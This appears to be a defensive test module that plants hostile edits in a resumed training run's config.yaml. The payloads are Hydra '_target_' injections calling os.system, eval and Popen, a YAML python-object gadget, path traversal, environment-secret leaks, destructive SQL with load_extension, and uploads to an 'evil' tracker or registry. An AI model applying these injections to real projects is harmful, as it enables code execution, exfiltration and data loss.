"""In `config.yaml` of a run that is resumed."""

from __future__ import annotations

import sqlite3

from benchmarks.chaos.strangers.scene import VARIABLE, Planted, Scene, payload

CHECKPOINT = "lightning.pytorch.callbacks.ModelCheckpoint"


def set_to(scene: Scene, **changes: object) -> Planted:
    """Set values, with `__` for dots in their keys, and resume."""
    scene.change("config.yaml", {key.replace("__", "."): value for key, value in changes.items()})
    return scene.resume()


@payload()
def model_is_os_system(scene: Scene) -> Planted:
    return set_to(scene, model={"_target_": "os.system", "command": scene.shell})


@payload()
def data_is_eval(scene: Scene) -> Planted:
    return set_to(scene, data={"_target_": "builtins.eval", "_args_": [f"open({str(scene.ran)!r}, 'w')"]})


@payload()
def model_is_exec_with_a_key_of_dots(scene: Scene) -> Planted:
    text = (scene.run / "config.yaml").read_text()
    (scene.run / "config.yaml").write_text(f"{text}\n'model._target_': os.system\n'model.command': {scene.shell}\n")
    return scene.resume()


@payload()
def nested_target(scene: Scene) -> Planted:
    return set_to(scene, data__missing=[[{"_target_": "os.system", "command": scene.shell}]])


@payload()
def target_beside_a_class(scene: Scene) -> Planted:
    return set_to(scene, callbacks__checkpoint__monitor={"_target_": "os.system", "command": scene.shell})


@payload()
def partial_and_arguments(scene: Scene) -> Planted:
    return set_to(scene, model___partial_=True, model___args_=[1])


@payload()
def recursion_switched_off(scene: Scene) -> Planted:
    return set_to(scene, callbacks__x={"_target_": CHECKPOINT, "_recursive_": False, "_convert_": "none"})


@payload()
def hydra_finds_a_function(scene: Scene) -> Planted:
    found = {"_target_": "hydra.utils.get_method", "path": "os.system"}
    return set_to(scene, callbacks__x={"_target_": "lightning.pytorch.callbacks.LambdaCallback", "setup": found})


@payload()
def hydra_instantiates(scene: Scene) -> Planted:
    inner = {"_target_": "os.system", "command": scene.shell}
    return set_to(scene, logger__x={"_target_": "hydra.utils.instantiate", "config": inner})


@payload()
def function_by_way_of_our_own_module(scene: Scene) -> Planted:
    return set_to(scene, model={"_target_": "recsys.cli.os.system", "command": scene.shell})


@payload()
def plugin_of_the_trainer(scene: Scene) -> Planted:
    return set_to(scene, trainer__plugins=[{"_target_": "os.system", "command": scene.shell}])


@payload()
def strategy_of_the_trainer(scene: Scene) -> Planted:
    return set_to(scene, trainer__strategy={"_target_": "os.system", "command": scene.shell})


@payload()
def trainer_is_popen(scene: Scene) -> Planted:
    return set_to(scene, trainer={"_target_": "subprocess.Popen", "args": ["touch", str(scene.ran)]})


@payload()
def environment_in_a_name(scene: Scene) -> Planted:
    return set_to(scene, data__name=f"${{oc.env:{VARIABLE}}}", model_name=f"${{oc.env:{VARIABLE}}}")


@payload()
def environment_decoded(scene: Scene) -> Planted:
    return set_to(scene, data__name=f"${{oc.decode:${{oc.env:{VARIABLE}}}}}")


@payload()
def resolver_makes_a_mapping(scene: Scene) -> Planted:
    made = f"${{oc.create:{{_target_:os.system,command:{scene.shell}}}}}"
    return set_to(scene, callbacks__x=made)


@payload()
def environment_in_a_key_of_a_list(scene: Scene) -> Planted:
    return set_to(scene, data__missing=[f"${{oc.env:{VARIABLE}}}"])


@payload()
def password_of_another_database(scene: Scene) -> Planted:
    """What a run keeps as `***` is filled in from the environment when it is resumed."""
    return set_to(scene, data__name="postgresql://reader:***@db.example/shop")


@payload()
def yaml_object(scene: Scene) -> Planted:
    file = scene.run / "config.yaml"
    file.write_text(f"{file.read_text()}\nx: !!python/object/apply:os.system ['{scene.shell}']\n")
    return [*scene.resume(), ("report", str(scene.run))]


@payload()
def yaml_path_for_a_folder(scene: Scene) -> Planted:
    """OmegaConf reads paths by a tag of their own, which are no texts."""
    file, home = scene.run / "config.yaml", str(scene.home)
    scene.change("config.yaml", {"callbacks.x": {"_target_": CHECKPOINT, "dirpath": "HERE", "filename": "x"}})
    file.write_text(file.read_text().replace("HERE", f"!!python/object/apply:pathlib.PosixPath ['{home}']"))
    return scene.resume()


@payload()
def checkpoints_at_home(scene: Scene) -> Planted:
    return set_to(scene, callbacks__x={"_target_": CHECKPOINT, "dirpath": str(scene.home / "mail")})


@payload()
def checkpoints_named_out_of_the_folder(scene: Scene) -> Planted:
    callback = {"_target_": CHECKPOINT, "dirpath": f"{scene.run}/checkpoints", "filename": "../../home/thesis"}
    return set_to(scene, callbacks__x={**callback, "enable_version_counter": False})


@payload()
def checkpoints_of_errors_at_home(scene: Scene) -> Planted:
    kind = "lightning.pytorch.callbacks.OnExceptionCheckpoint"
    return set_to(scene, callbacks__x={"_target_": kind, "dirpath": str(scene.run), "filename": "../home/thesis"})


@payload()
def checkpoints_named_by_an_absolute_path(scene: Scene) -> Planted:
    callback = {"_target_": CHECKPOINT, "filename": str(scene.home / "thesis"), "enable_version_counter": False}
    return set_to(scene, callbacks__x={**callback, "dirpath": f"{scene.run}/checkpoints"})


@payload()
def skipped_batches_at_home(scene: Scene) -> Planted:
    kind, file = "lightning.pytorch.callbacks.SpikeDetection", str(scene.home / ".spikes.json")
    return set_to(scene, callbacks__x={"_target_": kind, "exclude_batches_path": file, "warmup": 0, "rtol": 0.0})


@payload()
def skipped_batches_on_the_desk(scene: Scene) -> Planted:
    kind = "lightning.pytorch.callbacks.SpikeDetection"
    return set_to(scene, callbacks__x={"_target_": kind, "warmup": 0, "rtol": 0.0, "atol": 0.0})


@payload()
def profile_at_home(scene: Scene) -> Planted:
    profiler = {"_target_": "lightning.pytorch.profilers.SimpleProfiler", "filename": "x", "dirpath": str(scene.home)}
    return set_to(scene, trainer__profiler=profiler)


@payload()
def profile_named_out_of_the_folder(scene: Scene) -> Planted:
    (scene.run / "fit-..").mkdir()
    profiler = {"_target_": "lightning.pytorch.profilers.SimpleProfiler", "dirpath": str(scene.run)}
    return set_to(scene, trainer__profiler={**profiler, "filename": "../../home/profile"})


@payload()
def trainer_works_at_home(scene: Scene) -> Planted:
    return set_to(scene, trainer__default_root_dir=str(scene.home))


@payload()
def curve_at_home(scene: Scene) -> Planted:
    return set_to(scene, logger__csv__save_dir=str(scene.home))


@payload()
def run_dir_is_home(scene: Scene) -> Planted:
    home = str(scene.home)
    changes = {"callbacks__checkpoint__dirpath": f"{home}/checkpoints", "logger__csv__save_dir": home}
    return set_to(scene, run_dir=home, **changes)


@payload()
def ratings_sent_to_a_server(scene: Scene) -> Planted:
    tracker = {"_target_": "recsys.training.wandb.WandbTracker", "project": "x", "entity": "evil"}
    return set_to(scene, logger__wandb={**tracker, "save_dir": str(scene.run), "upload_bundle": True})


@payload()
def model_sent_to_a_registry(scene: Scene) -> Planted:
    return set_to(scene, trainer__model_registry="evil/team/model")


def own_database(scene: Scene) -> None:
    """A database of the user, whose URL is in the environment."""
    with sqlite3.connect(scene.home / "shop.db") as database:
        database.execute("create table if not exists ratings (user_id, item_id, rating)")
        database.executemany("insert into ratings values (?, ?, ?)", [(n % 7, n, 1 + n % 5) for n in range(70)])


def query(scene: Scene, text: str, **others: object) -> Planted:
    data = {"_target_": "recsys.data.sources.SqlRatings", "split": "random", "batch_size": 64, "seed": 0}
    return set_to(scene, data={**data, "query": text, **others})


@payload()
def query_empties_the_users_table(scene: Scene) -> Planted:
    own_database(scene)
    return query(scene, "delete from ratings returning user_id, item_id, rating")


@payload()
def query_copies_the_users_table(scene: Scene) -> Planted:
    own_database(scene)
    return query(scene, f"vacuum into '{scene.home / 'copy.db'}'")


@payload()
def query_writes_a_file(scene: Scene) -> Planted:
    (scene.run / "x.db").write_bytes(b"")
    return query(scene, f"vacuum into '{scene.home / '.profile'}'", url=f"sqlite:///{scene.run / 'x.db'}")


@payload()
def query_loads_a_library(scene: Scene) -> Planted:
    (scene.run / "x.db").write_bytes(b"")
    return query(scene, f"select load_extension('{scene.run / 'evil.so'}')", url=f"sqlite:///{scene.run / 'x.db'}")


@payload()
def database_at_a_server(scene: Scene) -> Planted:
    port = scene.caller.getsockname()[1]
    url = f"postgresql+psycopg://reader@127.0.0.1:{port}/x?connect_timeout=2"
    return query(scene, "select 1", url=url)


@payload()
def url_in_any_variable(scene: Scene) -> Planted:
    return query(scene, "select 1", url_env=VARIABLE)


@payload()
def study_in_the_users_database(scene: Scene) -> Planted:
    own_database(scene)
    kind = "recsys.training.pruning.Pruning"
    storage = f"sqlite:///{scene.home / 'shop.db'}"
    return set_to(scene, callbacks__pruning={"_target_": kind, "storage": storage, "study": "x", "trial": 0})


@payload()
def data_of_the_user_in_the_name_of_a_run(scene: Scene) -> Planted:
    """A model's arguments are written to the bundle; none may come from the environment."""
    return set_to(scene, model__seed=f"${{oc.env:{VARIABLE}}}")


@payload()
def typed_command_meets_a_strangers_folder(scene: Scene) -> Planted:
    """The command names the folder; its `config.yaml` says what was inferred, and with it a class."""
    scene.change(
        "config.yaml",
        {"inferred": ["data.format", "model"], "data.format": {"_target_": "os.system", "command": scene.shell}},
    )
    from benchmarks.chaos.strangers.scene import SETTINGS

    return [("train", *SETTINGS, f"data.root={scene.data}", f"hydra.run.dir={scene.run}")]
